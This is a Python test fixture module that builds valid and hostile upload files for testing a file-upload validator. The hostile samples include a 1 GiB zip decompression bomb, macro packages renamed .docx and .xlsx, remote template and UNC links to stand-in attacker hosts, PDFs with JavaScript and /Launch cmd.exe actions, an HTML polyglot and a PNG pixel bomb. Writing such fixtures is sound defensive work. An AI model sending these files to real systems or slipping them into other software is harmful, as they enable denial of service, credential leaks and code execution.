"""Valid and hostile files for upload tests, generated here (no binary files in the repository).

Valid: a small real PDF, PNG, JPEG (Pillow), DOCX (python-docx), XLSX (openpyxl). Hostile: every
class of issue 11 — a decompression bomb (1 GiB inside, built in well under a second from one
deflated block repeated), a macro package renamed .docx, an external relationship, 10,000
entries, embedded OLE objects, PDFs with JavaScript (also hex-escaped), a launch action or an
embedded file, a PDF/HTML polyglot, a PDF-prefixed executable, an image pixel bomb."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from common.uploads.samples import build_pdf, pdf  # noqa: F401 - build_pdf for the tests

# --- PDF -----------------------------------------------------------------------------------------------


PDF = pdf()


def pdf_javascript() -> bytes:
    return pdf(catalog=b"/OpenAction 5 0 R ", extra=(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",))


def pdf_javascript_hex() -> bytes:
    return pdf(catalog=b"/OpenAction 5 0 R ", extra=(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",))


def pdf_launch() -> bytes:
    return pdf(catalog=b"/OpenAction 5 0 R ", extra=(b"<< /S /Launch /F (cmd.exe) >>",))


def pdf_embedded_file() -> bytes:
    payload = b"MZ not really"
    return pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ",
        extra=(
            b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        ),
    )


def pdf_html_polyglot() -> bytes:
    return pdf(extra=(b"<< /Length 40 >>\nstream\n<html><script>alert(1)</script></html>\nendstream",))


def pdf_prefixed_executable() -> bytes:
    stub = (
        b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64
    )
    return b"%PDF-1.4\n" + stub + b"\n%%EOF\n"


def pdf_behind_garbage() -> bytes:
    return pdf(prefix=b"A" * 2000 + b"\n")


# --- images --------------------------------------------------------------------------------------------


def image(fmt: str = "PNG", size=(64, 48)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, fmt)
    return buffer.getvalue()


PNG = image("PNG")
JPEG = image("JPEG")


def png_pixel_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A 1-bit PNG that declares 10 billion points in a few hundred bytes (the IDAT is a stub)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


# --- Office packages ----------------------------------------------------------------------------------


def docx(text: str = "Тестовый документ") -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx(rows=(("СНИЛС", "Фамилия"),)) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


DOCX = docx()


def repack(data: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None) -> bytes:
    """The package with parts replaced or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, body in add.items():
            target.writestr(name, body)
    return out.getvalue()


def _macro_enabled(base: bytes, main: bytes, macro_main: bytes, vba_part: str) -> bytes:
    """The package turned macro-enabled (its main part's type) with a VBA project added."""
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        types = source.read("[Content_Types].xml")
    types = types.replace(main, macro_main).replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )
    return repack(base, replace={"[Content_Types].xml": types}, add={vba_part: b"\xd0\xcf\x11\xe0macro"})


def docx_macro() -> bytes:
    """A macro-enabled document (.docm) renamed .docx."""
    return _macro_enabled(
        DOCX, b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin"
    )


def docx_external_relationship() -> bytes:
    """An attached template fetched from a remote server when the document opens."""
    with zipfile.ZipFile(io.BytesIO(DOCX)) as source:
        rels = source.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
    )
    return repack(DOCX, replace={"word/_rels/document.xml.rels": rels})


def docx_embedded_object() -> bytes:
    return repack(DOCX, add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1ole"})


def docx_many_entries(count: int = 10_000) -> bytes:
    return repack(DOCX, add={f"word/media/x{i}.txt": b"" for i in range(count)})


@functools.cache
def docx_bomb(gib: int = 1, declared: int | None = None) -> bytes:
    """A .docx whose one extra part unpacks to `gib` GiB of zeros (about 1 MiB on disk). The
    deflate stream is one compressed 1 MiB block (full-flushed, so it can be repeated) written
    `gib` × 1024 times; the CRC is computed over the zeros without holding them. `declared`: the
    size the headers claim for that part (a lying header), if not the true one."""
    block = b"\x00" * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    unit = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    repeats = gib * 1024
    crc = 0
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    size = repeats * len(block)
    compressed = unit * repeats + end
    name = b"word/media/image1.png"
    base = io.BytesIO(DOCX)
    out = io.BytesIO()
    entries = []
    with zipfile.ZipFile(base) as source:
        for info in source.infolist():
            body = source.read(info.filename)
            data = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = data.compress(body) + data.flush()
            entries.append((info.filename.encode(), packed, zlib.crc32(body), len(body)))
    entries.append((name, compressed, crc, size if declared is None else declared))
    directory = bytearray()
    for filename, packed, crc32, raw in entries:
        offset = out.tell()
        out.write(struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc32, len(packed), raw, len(filename), 0))
        out.write(filename)
        out.write(packed)
        directory += struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            crc32,
            len(packed),
            raw,
            len(filename),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        directory += filename
    start = out.tell()
    out.write(directory)
    out.write(struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(directory), start, 0))
    return out.getvalue()


HOSTILE = {
    "bomb.docx": docx_bomb,
    "macro.docx": docx_macro,
    "external.docx": docx_external_relationship,
    "embedded.docx": docx_embedded_object,
    "entries.docx": docx_many_entries,
    "javascript.pdf": pdf_javascript,
    "javascript-hex.pdf": pdf_javascript_hex,
    "launch.pdf": pdf_launch,
    "attachment.pdf": pdf_embedded_file,
    "polyglot.pdf": pdf_html_polyglot,
    "executable.pdf": pdf_prefixed_executable,
    "pixels.png": png_pixel_bomb,
}


# --- the same classes as workbooks (for the staff import) ------------------------------------------


def _xlsx() -> bytes:
    return xlsx((("СНИЛС", "Фамилия"), ("112-233-445 95", "Тестова")))


def xlsx_macro() -> bytes:
    """A macro-enabled workbook (.xlsm) renamed .xlsx."""
    return _macro_enabled(
        _xlsx(), b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin"
    )


def xlsx_external_link() -> bytes:
    base = _xlsx()
    with zipfile.ZipFile(io.BytesIO(base)) as source:
        rels = source.read("xl/_rels/workbook.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="\\\\attacker\\share\\book.xlsx" TargetMode="External"/></Relationships>',
    )
    return repack(base, replace={"xl/_rels/workbook.xml.rels": rels})


def xlsx_many_entries(count: int = 10_000) -> bytes:
    return repack(_xlsx(), add={f"xl/media/x{i}.txt": b"" for i in range(count)})


def xlsx_bomb() -> bytes:
    """The 1 GiB package uploaded as a workbook: refused for its size before its kind matters."""
    return docx_bomb()


HOSTILE_WORKBOOKS = {
    "bomb.xlsx": xlsx_bomb,
    "macro.xlsx": xlsx_macro,
    "external.xlsx": xlsx_external_link,
    "entries.xlsx": xlsx_many_entries,
}
